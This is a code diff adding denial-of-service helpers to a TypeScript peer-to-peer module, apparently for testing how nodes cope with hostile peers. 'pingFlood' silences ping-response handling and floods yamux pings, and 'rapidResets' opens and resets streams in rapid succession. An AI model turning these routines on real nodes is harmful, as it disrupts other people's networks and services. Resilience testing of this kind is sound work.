@@ -144,3 +144,32 @@ export async function dhtStream(raw: RawPeer, address: string, bytes: Uint8Array
   stream.abort(new Error('done'));
   return Buffer.concat(got);
 }
+
+/** yamux below any protocol: its class has these methods, its type does not. */
+interface RawMuxer {
+  handlePingResponse: (id: number) => void;
+  sendPing(id: number): void;
+  sendFrame(header: { type: number; flag: number; streamID: number; length: number }): void;
+}
+
+function muxerOf(connection: Connection): RawMuxer {
+  return (connection as unknown as { muxer: RawMuxer }).muxer;
+}
+
+/** Pings of the multiplexer, all at once. */
+export function pingFlood(connection: Connection, count: number): void {
+  // Else the answers to pings that it does not know of end it on this side.
+  muxerOf(connection).handlePingResponse = () => {};
+  for (let id = 0; id < count && connection.status === 'open'; id++) muxerOf(connection).sendPing(id + 1_000);
+}
+
+/** Streams that are opened and reset in the same breath. */
+export async function rapidResets(connection: Connection, count: number): Promise<void> {
+  const [windowUpdate, syn, rst] = [1, 1, 8];
+  for (let index = 0; index < count && connection.status === 'open'; index++) {
+    const streamID = 100_001 + 2 * index;
+    muxerOf(connection).sendFrame({ type: windowUpdate, flag: syn, streamID, length: 0 });
+    muxerOf(connection).sendFrame({ type: windowUpdate, flag: rst, streamID, length: 0 });
+    if (index % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
+  }
+}
